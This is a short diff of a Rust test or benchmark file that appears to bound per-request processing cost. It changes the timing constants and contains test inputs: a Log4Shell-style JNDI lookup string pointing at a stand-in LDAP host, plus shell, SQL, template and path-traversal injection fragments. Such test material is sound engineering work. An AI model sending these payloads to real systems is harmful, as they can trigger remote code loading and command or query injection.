@@ -12,10 +12,11 @@ const PAYLOAD: &str = "${jndi:ldap://x.example/a}";
 const HARMLESS: &[&str] = &["blue", "It was a dark and stormy night. ", "42"];
 const COSTLY: &[&str] =
     &["';id", "\n", "a;b|c", "{{x}} ", "<a b='c'>", "' or 1=", "http://a/?b=' ", "java.lang.", "/a/..", "&amp;lt;"];
-/// The most that any request may come to, in nanoseconds: a constant, a share for each byte, and what the last field may owe.
+/// The most that any request may come to, in nanoseconds: a constant and a share for each byte.
 const START: u64 = 20_000_000;
-const BYTE: u64 = 95;
-const OWED: u64 = 1_000_000;
+const BYTE: u64 = 70;
+/// What is charged when it has been read is owed: at most a piece of 4 KiB full of the shell's shortest commands.
+const OWED: u64 = 6_500_000;
 
 /// How a body carries its parts.
 #[derive(Clone, Copy, Debug)]
